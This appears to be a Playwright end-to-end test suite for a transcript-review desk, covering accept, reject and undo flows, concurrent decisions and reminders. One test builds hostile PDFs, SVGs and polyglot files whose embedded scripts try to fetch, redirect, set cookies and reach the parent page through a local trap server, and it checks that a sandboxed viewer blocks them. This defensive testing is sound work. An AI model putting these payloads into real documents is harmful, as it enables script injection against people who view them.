import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { docx, encryptedPdf, jpeg, pdf, scanned, scannedPdf } from '../harness/documents.ts';
import { call, paidJoin } from './arrange.ts';
import {
  enterDesk,
  judgingPage,
  type Planted,
  payLongAgo,
  personOf,
  plantDocument,
  signIn,
  test,
} from './desk.ts';
import { type Complaints, expectAccessible, expectNoSidewaysScroll, theInduct } from './fixtures.ts';
import { button, heading } from './steps.ts';

const NOT_SHOWN = 'This document cannot be shown.';
const NOT_WHOLE = 'Some pictures of this page cannot be shown.';

/** Makes a paid join. The browser of `page`, which is not signed in yet, keeps no data of the join. */
async function memberOf(page: Page): Promise<string> {
  const { uuid } = await paidJoin(
    page,
    async (one) => (await call(one, 'initiateSchoolJoin', {}, { invitationCode: 'LINCOLN2026' })).uuid,
  );
  await page.context().clearCookies();
  return uuid;
}

const good: Planted = { name: 'transcript.pdf', mediaType: 'application/pdf', bytes: pdf() };

/** Makes a paid join with a waiting transcript. Returns the URL of the page that reviews it. */
async function waiting(page: Page): Promise<string> {
  const uuid = await memberOf(page);
  await plantDocument(uuid, good);
  return judgingPage(uuid);
}

const toast = (page: Page, text: string) => page.getByRole('dialog').filter({ hasText: text });
const standing = (page: Page, word: string) =>
  page.getByRole('main').getByText(word, { exact: true }).first();

/** A server that records every call it gets, and a page that records everything that a document must not do. */
async function watched(page: Page) {
  const called: string[] = [];
  const server = createServer((request, response) => {
    called.push(request.url!);
    response.end();
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const trap = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const met: string[] = [];
  page.on('dialog', (dialog) => {
    met.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (other) => met.push(`a window: ${other.url()}`));
  page.context().on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    const isOurs =
      origin === new URL(page.url()).origin && /^\/(api\/desk|static|viewer)(\/|$)/.test(pathname);
    if (
      !isOurs &&
      !['data:', 'blob:'].includes(new URL(request.url()).protocol) &&
      !request.isNavigationRequest()
    )
      met.push(`a request: ${request.url()}`);
  });
  return {
    trap,
    /** Everything that happened although it must not happen. */
    troubles: () => [...met, ...called.map((url) => `a call: ${url}`)],
    end: () => server.close(),
  };
}

/** What a document would try to do if its scripts could run in the frame. */
const attack = (trap: string) => `
  alert('met'); parent.document.title = 'met'; parent.localStorage.setItem('met', '1');
  document.cookie = 'met=1'; fetch('${trap}/fetch'); new Image().src = '${trap}/image'; location = '${trap}/away';`;

function hostileFiles(trap: string): (Planted & { isShown: boolean })[] {
  const script = attack(trap)
    .replace(/[()\\]/g, '\\$&')
    .replace(/\s+/g, ' ');
  return [
    {
      name: 'actions.pdf',
      mediaType: 'application/pdf',
      isShown: true,
      bytes: pdf({
        catalog: '/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> ',
        page: '/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R] ',
        more: [
          `<< /S /JavaScript /JS (app.alert\\("met"\\); app.launchURL\\("${trap}/js"\\); ${script}) >>`,
          `<< /Type /Annot /Subtype /Link /Rect [0 0 300 150] /A << /S /URI /URI (${trap}/link) >> >>`,
          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 150] /A << /S /SubmitForm /F (${trap}/form) >> /AA << /PV 6 0 R >> >>`,
        ],
      }),
    },
    {
      name: 'polyglot.pdf',
      mediaType: 'application/pdf',
      isShown: true,
      bytes: Buffer.concat([
        Buffer.from(`%PDF-1.7\n%<html><script>${attack(trap).replace(/\s+/g, ' ')}</script>\n`),
        pdf(),
      ]),
    },
    {
      name: 'page.pdf',
      mediaType: 'application/pdf',
      isShown: false,
      bytes: Buffer.from(`<!doctype html><script>${attack(trap)}</script><img src="${trap}/page">`),
    },
    {
      name: 'drawing.png',
      mediaType: 'image/png',
      isShown: false,
      bytes: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack(trap)}"><script>${attack(trap)}</script><image href="${trap}/svg"/></svg>`,
      ),
    },
    {
      name: 'drawing.svg',
      mediaType: 'image/svg+xml',
      isShown: false,
      bytes: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${attack(trap)}</script></svg>`,
      ),
    },
    {
      name: 'locked.pdf',
      mediaType: 'application/pdf',
      isShown: false,
      bytes: encryptedPdf({ password: 'x' }),
    },
    {
      name: 'words.docx',
      mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      isShown: false,
      bytes: docx(),
    },
    { name: 'photo.jpg', mediaType: 'image/jpeg', isShown: true, bytes: jpeg() },
  ];
}

/** Allows the message that the browser logs when the Content Security Policy blocks something. */
const expectStopped = (complaints: Complaints) =>
  complaints.expect(
    /Content Security Policy/,
    /Blocked|sandbox/i,
    /^Failed to load resource: /,
    /Unsafe attempt/,
  );

test('a hostile document is shown or not, and in no case does anything, nor could it', async ({
  page,
  complaints,
}) => {
  const uuid = await memberOf(page);
  const judging = await judgingPage(uuid);
  await enterDesk(page, 'Una Hostile');
  const { trap, troubles, end } = await watched(page);
  const before = await page.evaluate(() => ({ ...localStorage }));
  for (const { isShown, ...file } of hostileFiles(trap))
    await test.step(file.name, async () => {
      const id = await plantDocument(uuid, file);
      await page.goto(`${judging}?document=${id}`);
      if (isShown) await expect(page.getByText('Page 1 of 1')).toBeVisible();
      else await expect(page.getByText(NOT_SHOWN)).toBeVisible();
      await expect(page).toHaveTitle(/^Jordan Rivera/);
      expect(new URL(page.url()).pathname).toBe(judging);
      if (isShown) {
        // The position of the document's link.
        await page.getByRole('region', { name: file.name }).click({ position: { x: 60, y: 40 } });
        await page.waitForLoadState('networkidle');
      }
      const download = page.waitForEvent('download');
      await button(page, 'Download').click();
      expect((await download).suggestedFilename()).toBe(file.name);
    });
  expect(troubles()).toEqual([]);
  expect(await page.evaluate(() => ({ ...localStorage }))).toEqual(before);

  expectStopped(complaints);
  const frame = page.frames().find((each) => new URL(each.url()).pathname === '/viewer')!;
  const gained = await frame.evaluate(async (address) => {
    const could: string[] = [];
    const attempt = async (what: string, work: () => unknown) => {
      try {
        await work();
        could.push(what);
      } catch {
        // An exception is the expected result.
      }
    };
    await attempt('read cookies', () => document.cookie);
    await attempt('read what is stored', () => localStorage.length);
    await attempt('read the page', () => window.parent.document.title);
    await attempt('fetch', () => fetch(`${address}/fetch`));
    await attempt('call the desk', () => fetch('/api/desk/me'));
    await attempt('load a script', () => import(`${address}/script.js`));
    await attempt('make a function of text', () => new Function('return 1'));
    await attempt(
      'work beside',
      () =>
        new Promise((works, fails) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
          worker.onmessage = works;
          worker.onerror = fails;
        }),
    );
    await attempt('open a window', () => {
      if (window.open(`${address}/window`) === null) throw new Error('no window');
    });
    await attempt('lead the page away', () => {
      window.parent.location.href = `${address}/away`;
    });
    new Image().src = `${address}/image`;
    navigator.sendBeacon(`${address}/beacon`);
    alert('met');
    return { could, origin: window.origin };
  }, trap);
  expect(gained).toEqual({ could: [], origin: 'null' });
  await frame.evaluate((address) => {
    location.href = `${address}/self`;
  }, trap);
  await page.waitForLoadState('networkidle');
  expect(troubles().filter((trouble) => !trouble.startsWith('a request'))).toEqual([]);
  end();
});

test('scans are shown in each coding that scanners use, and one that cannot be decoded is told', async ({
  page,
}) => {
  const uuid = await memberOf(page);
  const judging = await judgingPage(uuid);
  await enterDesk(page, 'Ulf Scans');
  const show = async (bytes: Buffer) => {
    const id = await plantDocument(uuid, { name: 'scan.pdf', mediaType: 'application/pdf', bytes });
    await page.goto(`${judging}?document=${id}`);
    await expect(page.getByText('Page 1 of 1')).toBeVisible();
  };
  await show(scannedPdf());
  const frame = page.frames().find((each) => new URL(each.url()).pathname === '/viewer')!;
  const colours = await frame.evaluate(() => {
    const { width, height } = document.querySelector('canvas')!;
    const context = document.querySelector('canvas')!.getContext('2d')!;
    // The position in the middle of each picture.
    const across = [50, 150, 250].map((x) => (x * width) / 300);
    return across.map((x) => [...context.getImageData(x, (height * 100) / 150, 1, 1).data].join(' '));
  });
  expect(colours).toEqual(scanned.map(() => '0 0 0 255'));
  await expect(page.getByText(NOT_WHOLE)).toBeHidden();
  await show(scannedPdf({ broken: 'jpeg2000' }));
  await expect(page.getByText(NOT_WHOLE)).toBeVisible();
});

test('a transcript is accepted by two keys, the next one opens, and Undo brings it back; it is skipped by one key, and rejected by three', async ({
  page,
}) => {
  const [judging] = [await waiting(page), await waiting(page)];
  await signIn(page, 'Wes Keys');
  await page.goto(judging);
  await expect(page.getByText('Page 1 of 1')).toBeVisible();
  await page.keyboard.press('a');
  const dialog = page.getByRole('dialog', { name: 'Accept the transcript of Jordan Rivera?' });
  await expect(dialog).toContainText('Thank you: we have reviewed your transcript');
  await expect(dialog.getByRole('button', { name: 'Accept' })).toBeFocused();
  await expectAccessible(page);
  await page.keyboard.press('Enter');
  await expect(toast(page, 'The transcript of Jordan Rivera is accepted.')).toBeVisible();
  await expect(page).not.toHaveURL(judging);
  await expect(heading(page, 'Jordan Rivera')).toBeFocused();
  await button(page, 'Undo').click();
  await expect(page).toHaveURL(judging);
  await expect(standing(page, 'to decide')).toBeVisible();
  await expect(page.getByText('taken back', { exact: true })).toBeVisible();

  await page.keyboard.press('s');
  await expect(page).not.toHaveURL(judging);
  await page.goto(judging);
  await expect(standing(page, 'to decide')).toBeVisible();
  await page.keyboard.press('r');
  const rejecting = page.getByRole('dialog', { name: 'Reject the transcript of Jordan Rivera?' });
  await expect(rejecting.getByRole('radio')).toHaveCount(6);
  await expect(rejecting.getByRole('button', { name: 'Reject' })).toHaveCount(0);
  await page.keyboard.press('4');
  await expect(rejecting.getByRole('radio').nth(3)).toBeChecked();
  await expect(rejecting).toContainText(
    'The applicant would read: Some pages of your transcript are missing.',
  );
  await expect(rejecting.getByRole('button', { name: 'Reject' })).toBeFocused();
  await expectAccessible(page);
  await expectNoSidewaysScroll(page);
  await page.keyboard.press('Enter');
  await expect(toast(page, 'The transcript of Jordan Rivera is rejected.')).toBeVisible();
  await page.goto(judging);
  await expect(standing(page, 'rejected')).toBeVisible();
  await page.goto('/transcripts/decided');
  await expect(page.getByRole('row').filter({ hasText: 'by Wes Keys' })).toBeVisible();
});

test('on a phone, only the last decision’s toast is seen, so that the next can be made', async ({ page }) => {
  // The transcript that opens next may belong to another test, which may already have decided on it. This test does not decide on
  // it.
  const [judging] = [await waiting(page), await waiting(page)];
  await page.setViewportSize({ width: 390, height: 844 });
  await enterDesk(page, 'Vic Phone');
  await page.goto(judging);
  const dialog = page.getByRole('dialog').filter({ has: page.getByRole('button', { name: 'Cancel' }) });
  await button(page, 'Accept').click();
  await dialog.getByRole('button', { name: 'Accept' }).click();
  await button(page, 'Undo').click();
  await expect(toast(page, 'The decision is taken back.')).toBeVisible();
  await button(page, 'Reject').click();
  await dialog.getByRole('radio').first().check();
  await dialog.getByRole('button', { name: 'Reject' }).click();
  await expect(toast(page, 'is rejected.')).toBeVisible();
  await expect(toast(page, 'The decision is taken back.')).toBeHidden();
  await expect(page).not.toHaveURL(judging);
  await page
    .getByRole('button', { name: /^(Accept|Reject)$/ })
    .first()
    .click();
  await expect(dialog).toBeVisible();
});

test('of two who decide at once, the second reads who was first; Undo does not take back what a colleague has decided since', async ({
  page,
  browser,
  complaints,
}) => {
  complaints.expectFailedRequests();
  const judging = await waiting(page);
  const { baseURL } = test.info().project.use;
  const other = await browser.newContext(baseURL ? { baseURL } : {});
  const first = await other.newPage();
  await signIn(first, 'Yan First');
  await signIn(page, 'Zoe Second');
  for (const each of [first, page]) {
    await each.goto(theInduct().desk!.url + judging);
    await expect(standing(each, 'to decide')).toBeVisible();
  }
  await page.keyboard.press('a');
  const accept = page.getByRole('dialog').getByRole('button', { name: 'Accept' });
  await expect(accept).toBeFocused();
  await first.keyboard.press('a');
  await first.getByRole('dialog').getByRole('button', { name: 'Accept' }).click();
  await expect(toast(first, 'is accepted.')).toBeVisible();
  await accept.click();
  await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
    /^Already accepted by Yan First at \d\d:\d\d\.$/,
  );

  await page.reload();
  await button(page, 'Reject').click();
  await page.keyboard.press('1');
  await page.getByRole('dialog').getByRole('button', { name: 'Reject' }).click();
  await expect(toast(page, 'is rejected.')).toBeVisible();
  await button(first, 'Undo').click();
  await expect(toast(first, 'The decision is not taken back.')).toBeVisible();
  await page.goto(judging);
  await expect(standing(page, 'rejected')).toBeVisible();
  await other.close();
});

test('those whose proof is overdue are ticked and reminded', async ({ page }) => {
  const uuid = await memberOf(page);
  await payLongAgo(uuid);
  const person = await personOf(uuid);
  await enterDesk(page, 'Abe Overdue');
  await page.getByRole('link', { name: 'Proof overdue' }).click();
  await expect(page).toHaveURL('/transcripts/overdue');
  await button(page, 'Remind').click();
  await expect(page.getByText('Tick who is to be reminded first.')).toBeVisible();
  const row = page.getByRole('row').filter({ has: page.locator(`a[href="/people/${person}"]`) });
  await expect(row).toContainText('never');
  await row.getByRole('checkbox').check();
  await expectAccessible(page);
  await button(page, 'Remind 1 person').click();
  const dialog = page.getByRole('dialog', { name: 'Remind 1 person?' });
  await expect(dialog).toContainText('1 person gets a letter that asks for the transcript.');
  await dialog.getByRole('button', { name: 'Remind 1 person' }).click();
  await expect(toast(page, 'The letters are on their way.')).toBeVisible();
  await expect(row).not.toContainText('never');
});

test('the documents of a person lead to their judging page, and are downloaded; their bytes are never a page, not even at their own address', async ({
  page,
  complaints,
}) => {
  complaints.expectFailedRequests();
  const uuid = await memberOf(page);
  await plantDocument(uuid, good);
  const judging = await judgingPage(uuid);
  await signIn(page, 'Bea Documents');
  await page.goto(`/people/${await personOf(uuid)}/documents`);
  const download = page.waitForEvent('download');
  await button(page, 'Download').click();
  expect((await download).suggestedFilename()).toBe('transcript.pdf');
  await page.getByRole('table').getByRole('link', { name: 'Show' }).click();
  await expect(page).toHaveURL(new RegExp(`${judging}\\?document=`));
  await expect(page.getByText('Page 1 of 1')).toBeVisible();
  await page.goto('/transcripts/999999/1');
  await expect(heading(page, 'Nobody is here')).toBeVisible();

  const bytes = Buffer.from('<script>document.title = "met"</script>');
  const id = await plantDocument(uuid, { ...good, bytes });
  const saved = page.waitForEvent('download');
  await page.goto(`/api/desk/documents/${id}/bytes`).catch(() => {});
  expect((await saved).suggestedFilename()).toBe('transcript.pdf');
  await expect(page).not.toHaveTitle('met');
});
